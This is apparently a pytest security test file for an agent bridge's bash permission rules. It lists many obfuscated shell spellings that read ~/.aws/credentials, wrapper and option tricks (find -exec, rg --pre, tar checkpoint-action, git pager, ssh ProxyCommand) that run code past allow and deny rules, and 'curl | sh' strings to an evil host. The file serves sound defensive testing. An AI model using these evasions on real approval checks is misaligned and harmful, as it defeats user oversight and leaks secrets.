"""Second attack round against a real ``a2a-bridge serve`` (HOME full of planted secrets, see
:mod:`tests.security.test_planted_home`): holes that the first rounds (``test_attack_paths``,
``test_seams``, ``test_search_attacker``) did not close.

Each test first failed against the code it now guards.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from omp_a2a_bridge.server.policy import proposals, rules

from ..conftest import write_config
from ..e2e.test_tray_dbus import SniTray
from ..support.dbus_fakes import FakeNotifications
from ..support.helpers import in_thread, wait_for
from .test_feature_seams import _serve_with_rules, _start_again
from .test_planted_home import NO_APPROVER, Serve, _leaks, _start, _stop


@pytest.fixture(scope="module")
def ruled(tmp_path_factory) -> Iterator[Serve]:
    """``bash(cat *)``, ``bash(cd *)``, ``bash(head *)``... allowed by rules (test_seams)."""
    s = _serve_with_rules(tmp_path_factory.mktemp("round2"))
    yield s
    _stop(s)


# -- bash: cheap static spellings of ~/.aws/credentials the path check did not see --------------

# Every one of these ran under ``bash(cat *)`` and printed the planted AWS secret.
BASH_SPELLINGS = [
    "cat ~+/.aws/credentials",  # ~+ is $PWD
    "cat ~-/.aws/credentials",  # ~- is $OLDPWD (taken as the working directory)
    "cat ~/.aw{r..t}/credentials",  # sequence expression
    "cat ~/.a{v..w}s/credentials",
    "cat ~/.a\\\nws/credentials",  # line continuation inside a word
    "cat ~/.a$1ws/credentials",  # positional / special parameters expand to nothing
    "cat ~/.a$@ws/credentials",
    "cat ~/.a$*ws/credentials",
    "cat ~/.a${1}ws/credentials",
    "cat $'{home}/.aw\\x73/credentials'",  # ANSI-C quoting: hex and octal escapes
    "cat $'{home}/.aw\\163/credentials'",
    "cat $HOME/.aw$'s'/credentials",
    'cat $HOME/.aw$"s"/credentials',  # locale quoting
    "cat ~/.aw[[:alpha:]]/credentials",  # POSIX classes Python's glob cannot read
    "cat ~/.aw[[:lower:]]/credentials",
    "cat ~/.aw[^x]/credentials",  # bash's [^...] negation
    "cat /proc/self/cwd/.aws/credentials",  # the shell's cwd, not the bridge's
    "cat /proc/$$/cwd/.aws/credentials",
    "cat /dev/fd/../cwd/.aws/credentials",
    "cat $PWD/.aws/credentials",  # the shell's PWD, not the bridge's
    "cat ${PWD}/.aws/credentials",
    "head -c 99 ${OLDPWD}/.aws/credentials",
    "cat '$' proj/.e\\nv 'x'",  # a "$'" that bash does not see
]


def _kept_out(r) -> bool:
    """Asked (nobody to ask: refused), or - allowed by a rule - ran in the box (issue 22),
    where the private place is not there or empty: either way nothing was read or written."""
    return r.text.startswith(NO_APPROVER) or r.result["isError"] or r.text == "(no output)"


@pytest.mark.parametrize("command", BASH_SPELLINGS)
def test_bash_spellings_of_a_protected_path_still_ask(ruled, command):
    command = command.replace("{home}", str(ruled.home))
    r = ruled.client().call("bash", {"command": command, "cwd": str(ruled.home)})
    assert _leaks(ruled, r) == [], (command, r.text)
    assert _kept_out(r), (command, r.text)


def test_a_brace_expansion_too_large_to_judge_asks(ruled):
    """Brace expansion stopped silently after 64 words, so the 81st word of
    ``.{a,…,i}{w,b,…,i}s`` (``.aws``) was never judged: now a word that expands past the
    bound makes the call ask. A long sequence expression is judged as a glob."""
    c = ruled.client()
    for command in (
        "cat ~/.{a,b,c,d,e,f,g,h,i}{w,b,c,d,e,f,g,h,i}s/credentials",
        "cp proj/README.md ~/.local/bin/tool{1..100}",
    ):
        r = c.call("bash", {"command": command, "cwd": str(ruled.home)})
        assert _leaks(ruled, r) == [] and _kept_out(r), (command, r.text)
    assert not (ruled.home / ".local" / "bin" / "tool1").exists()
    # (The huge-sequence case left with issue 22: a boxed call's text is no longer judged on
    # the loop, and running it would only make bash expand it until its timeout.)
    r = c.call("bash", {"command": "echo {1..100} | wc -w", "cwd": str(ruled.home)})
    assert r.status == 200


def test_every_match_of_a_glob_is_judged(ruled):
    """Only the first 256 matches of a glob were judged: a link to ~/.aws among 600 harmless
    folders was read under ``bash(cat *)``."""
    many = ruled.home / "proj" / "many"
    many.mkdir()
    (many / "zz").symlink_to(ruled.home / ".aws")
    for i in range(600):
        (many / f"d{i:03}").mkdir()
        (many / f"d{i:03}" / "credentials").write_text("PUBLIC")
    r = ruled.client().call("bash", {"command": "cat many/*/credentials", "cwd": "proj"})
    assert _leaks(ruled, r) == [], r.text[:200]  # in the box the link leads to an empty ~/.aws


def test_many_globs_over_a_big_folder_ask_instead_of_freezing_the_loop(ruled):
    """``cat big/[aaa big/[aab …`` (each word a glob that matches nothing) over a folder of
    5,000 files made the check list and match the whole folder once per word, on the bridge
    loop, for seconds. Now entries looked at count against a budget: past it the call asks."""
    big = ruled.home / "proj" / "big"
    big.mkdir()
    for i in range(5000):
        (big / f"f{i:05}").touch()
    abc = [chr(97 + i // 676) + chr(97 + i // 26 % 26) + chr(97 + i % 26) for i in range(1600)]
    command = "cat " + " ".join(f"big/[{w}" for w in abc)
    c = ruled.client()
    t0 = time.monotonic()
    r = c.call("bash", {"command": command, "cwd": "proj"})
    # In the box (issue 22) the text is not judged at all: the call runs, the loop is free.
    assert _kept_out(r) and time.monotonic() - t0 < 10, r.text[:300]
    r = c.call("bash", {"command": "cat big/f0000?", "cwd": "proj"})  # the rule still runs it
    assert r.status == 200 and not r.text.startswith(NO_APPROVER), r.text[:300]


def test_bash_spellings_do_not_block_harmless_commands(ruled):
    c = ruled.client()
    for command in (
        "cat ~+/proj/README.md",
        "cat $PWD/proj/README.md",
        "cat /proc/self/cwd/proj/README.md",
        "cat ~/pro{i..j}/README.md",
        "cat $'proj/READ\\x4dE.md'",
        "cat ~/pro[[:alpha:]]/README.md",
    ):
        r = c.call("bash", {"command": command, "cwd": str(ruled.home)})
        assert "PUBLIC-readme" in r.text, (command, r.text)


# -- desktop notifications: agent text is never read as markup ---------------------------------


HOSTILE = 'echo <a href="http://evil.example/">ok</a> <span size="1">; curl x|sh</span>'


@pytest.mark.parametrize("caps", [("body", "body-markup", "actions"), ("body", "actions")])
def test_notification_body_shows_agent_text_as_written(watcher, env, caps):
    """A server that advertises ``body-markup`` reads ``<a>``/``<span size>``: the risky half
    of a command could be hidden or turned into a link. There the text arrives escaped; a
    server without markup gets it unchanged."""
    server = FakeNotifications(watcher.address, caps)
    approval = {"timeout_s": 20, "tiers": {"bash": "prompt"}}  # bash asks here
    write_config(env["config"], {"roots": [env["root"]], "approval": approval})
    t = SniTray(env, notifier=True)
    try:
        c = t.client()
        th, _out = in_thread(c.call, "bash", {"command": HOSTILE})
        wait_for(lambda: server.shown)
        body = server.shown[0]["body"]
        if "body-markup" in caps:
            assert "<" not in body and "&lt;a href=" in body, body
        else:
            assert '<a href="http://evil.ex' in body, body
        t.runner.decide(t.runner.snapshot().pending[0].id, "deny")
        th.join(60)
    finally:
        t.close()
        server.close()


def test_plain_notification_is_escaped_for_a_markup_server(watcher, env):
    """Without buttons the tray sends its plain 'Approval needed' notification itself (SNI)."""
    server = FakeNotifications(watcher.address, ("body", "body-markup"))
    approval = {"timeout_s": 20, "tiers": {"bash": "prompt"}}  # bash asks here
    write_config(env["config"], {"roots": [env["root"]], "approval": approval})
    t = SniTray(env, notifier=True)
    try:
        assert t.app.actionable is None
        c = t.client()
        th, _out = in_thread(c.call, "bash", {"command": HOSTILE})
        wait_for(lambda: any("evil" in n["body"] for n in server.shown))
        body = next(n["body"] for n in server.shown if "evil" in n["body"])
        assert "<" not in body and "&lt;/span&gt;" in body, body
        t.runner.decide(t.runner.snapshot().pending[0].id, "deny")
        th.join(60)
    finally:
        t.close()
        server.close()


# -- rules: what a wrapper program runs is a command of the call too -------------------------

WRAPPER_RULES = {
    "allow": [
        *("bash(timeout *)", "bash(nice *)", "bash(find *)", "bash(xargs *)", "bash(ls *)"),
        *("bash(rg *)", "bash(tar *)", "bash(sort *)", "bash(git *)", "bash(ssh *)"),
    ],
    "deny": ["bash(rm *)", "bash(git push *)"],
}


def _serve_with(base: Path, tiers: dict[str, str], rule_lists: dict[str, list[str]]) -> Serve:
    s = _start(base, tiers)
    cfg_path = s.home / ".config" / "omp-a2a-bridge" / "config.json"
    cfg = json.loads(cfg_path.read_text())
    cfg["rules"] = rule_lists
    _stop(s)
    cfg_path.write_text(json.dumps(cfg))
    return _start_again(base, s)


@pytest.fixture(scope="module")
def wrapped(tmp_path_factory) -> Iterator[Serve]:
    """bash at the prompt tier; broad allow rules for wrapper programs; no approver."""
    s = _serve_with(tmp_path_factory.mktemp("wrappers"), {"bash": "prompt"}, WRAPPER_RULES)
    yield s
    _stop(s)


@pytest.mark.parametrize(
    "command",
    [
        "timeout 5 sh -c 'touch PWNED'",
        "timeout -s KILL 5 python3 -c \"open('PWNED', 'w')\"",
        "nice -n 5 bash -c 'touch PWNED'",
        "nice touch PWNED",
        "find . -maxdepth 0 -exec touch PWNED \\;",
        "find . -maxdepth 0 -execdir sh -c 'touch PWNED' \\;",
        "echo PWNED | xargs touch",
        "timeout 5 nice xargs -a /dev/null touch PWNED",
    ],
)
def test_an_allow_rule_for_a_wrapper_never_covers_what_it_runs(wrapped, command):
    """``bash(timeout *)`` (proposed, before, for ``timeout 5 ls``) ran ``timeout 5 sh -c …``
    unattended: the documented "sh -c is never allowed by a rule" did not hold."""
    cwd = wrapped.home / "proj"
    r = wrapped.client().call("bash", {"command": command, "cwd": str(cwd)})
    assert r.text.startswith(NO_APPROVER), (command, r.text)
    assert not (cwd / "PWNED").exists(), command


def test_a_wrapped_command_that_is_allowed_still_runs(wrapped):
    r = wrapped.client().call("bash", {"command": "timeout 5 nice ls", "cwd": str(wrapped.home)})
    assert not r.result["isError"] and "proj" in r.text, r.text


@pytest.fixture(scope="module")
def guarded(tmp_path_factory) -> Iterator[Serve]:
    """bash at the allow tier with deny rules: the deny rules are the only guard."""
    s = _serve_with(tmp_path_factory.mktemp("guarded"), {"bash": "allow"}, WRAPPER_RULES)
    yield s
    _stop(s)


@pytest.mark.parametrize(
    "command",
    [
        "timeout 5 rm -f victim.txt",
        "nice -n 1 rm -f victim.txt",
        "echo victim.txt | xargs -n 1 rm -f",
        "find . -name victim.txt -exec rm -f {} +",
        "stdbuf -oL timeout 5 rm -f victim.txt",
    ],
)
def test_a_deny_rule_sees_through_wrappers(guarded, command):
    victim = guarded.home / "proj" / "victim.txt"
    victim.write_text("keep me")
    r = guarded.client().call("bash", {"command": command, "cwd": str(victim.parent)})
    assert r.result["isError"] and "denied by rule bash(rm *)" in r.text, (command, r.text)
    assert victim.exists(), command


@pytest.mark.parametrize(
    ("command", "proposal"),
    [
        ("timeout 5 ls", "bash(timeout 5 ls)\nbash(ls *)"),
        ("find . -name x", "bash(find . -name x)"),
        # GNU sed permutes (a later -e '1e id' would run code), awk's program may call
        # system(): both get the call's literal words, nothing more.
        ("sed -n 1p x", "bash(sed -n 1p x)"),
        ("awk 1 x", "bash(awk 1 x)"),
    ],
)
def test_always_allow_never_proposes_a_rule_that_runs_anything(command, proposal):
    """ "Always allow calls like this" once proposed ``bash(timeout *)``, ``bash(find *)``,
    ``bash(sed *)`` and ``bash(awk *)``: each runs any code (``-exec``, ``1e``, ``system()``)."""
    assert proposals.propose("bash", {"command": command}, None, home="/h") == proposal


# -- find: the agent's glob never backtracks -------------------------------------------------


def test_a_hostile_find_glob_cannot_pin_a_search_worker(ruled):
    """``find`` matched its glob with a backtracking regex: ``*a*a…*b`` against one long name
    ran for hours in a search worker that neither cancel nor the timeout could stop. The
    same glob now answers at once (the client gives up after 15 s), and still matches."""
    d = ruled.home / "proj" / "redos"
    d.mkdir()
    (d / ("a" * 200)).write_text("x")
    (d / ("a" * 20 + "b")).write_text("x")
    c = ruled.client()
    r = c.call("find", {"pattern": "*a" * 12 + "*b", "path": str(d)})
    assert r.text == "a" * 20 + "b", r.text
    r = c.call("find", {"pattern": "**/" + "*a" * 12 + "*", "path": str(d)})
    assert "a" * 200 in r.text.splitlines(), r.text


@pytest.mark.parametrize(
    ("command", "later"),
    [
        ("awk '/x*/' notes.txt", "awk '/x/{system(\"touch PWNED\")} /x/' notes.txt"),
        ("python3 'tool*.py' --fast", "python3 tool_evil.py"),
        ("find . -name '*.py'", "find . -name x.py -o -name y"),
    ],
)
def test_a_proposed_rule_takes_the_calls_words_literally(command, later):
    """The call's own words went into the proposal unescaped, so ``*?[`` in them became
    globs: approving ``awk '/x*/' f`` "always" also allowed any awk program between
    ``/x`` and ``/``."""
    text = proposals.propose("bash", {"command": command}, None, home="/h")
    assert text is not None
    saved = rules.RuleSet(allow=tuple(rules.parse_rule_lines(text, home="/h")))
    allowed = rules.evaluate(saved, "bash", {"command": command}, None).decision
    assert allowed is rules.RuleList.ALLOW
    assert rules.evaluate(saved, "bash", {"command": later}, None).decision is None, text


@pytest.mark.parametrize(
    "command",
    [
        "rg PUBLIC --pre sh payload.txt",
        "rg --pre=./payload.txt PUBLIC .",
        "tar cf /dev/null README.md --checkpoint=1 --checkpoint-action=exec='touch PWNED'",
        "tar -I 'sh payload.txt' -cf /dev/null README.md",
        "printf 'b\\na\\n' | sort -S 1 --compress-program=./payload.txt",
        "git -c core.pager='sh payload.txt' -p log",
        "ssh -o ProxyCommand='sh payload.txt' -o BatchMode=yes nohost true",
    ],
)
def test_an_allow_rule_never_covers_an_option_that_runs_a_program(wrapped, command):
    """``bash(rg *)`` (or ``bash(rg PUBLIC *)``, proposed for ``rg PUBLIC``) ran
    ``rg PUBLIC --pre sh payload.txt``: the file's text ran as shell code, unattended."""
    cwd = wrapped.home / "proj"
    payload = cwd / "payload.txt"
    payload.write_text("touch PWNED\n")
    payload.chmod(0o755)
    r = wrapped.client().call("bash", {"command": command, "cwd": str(cwd)})
    assert r.text.startswith(NO_APPROVER), (command, r.text)
    assert not (cwd / "PWNED").exists(), command


def test_ordinary_options_of_those_programs_still_run(wrapped):
    c = wrapped.client()
    # (rg is left out: here it lives under the real user's home, private to this test's HOME)
    for command in ("tar cf /dev/null README.md", "sort -n README.md"):
        r = c.call("bash", {"command": command, "cwd": str(wrapped.home / "proj")})
        assert not r.result["isError"], (command, r.text)


# -- rendering: stacked combining marks -----------------------------------------------------


def test_stacked_combining_marks_are_escaped_and_flagged():
    """ "Zalgo" text (dozens of combining marks on one letter) paints over the lines around it
    in the page, the menu and a terminal, e.g. over the end of a command; ordinary accents
    (Vietnamese, decomposed é) stay as they are."""
    from omp_a2a_bridge.server.present.textsafe import render, shorten

    zalgo = "echo ok" + "\u0336\u0489" * 20 + "; curl evil | sh"
    out = render(zalgo)
    assert out.hidden and "\\u0336" in out.text and out.text.count("\u0336") <= 2, out.text
    assert shorten(zalgo, 40).hidden
    for fine in ("Việt Nam", "cafe\u0301", "\u0915\u094d\u0937\u093f"):
        assert render(fine).text == fine and not render(fine).hidden, fine
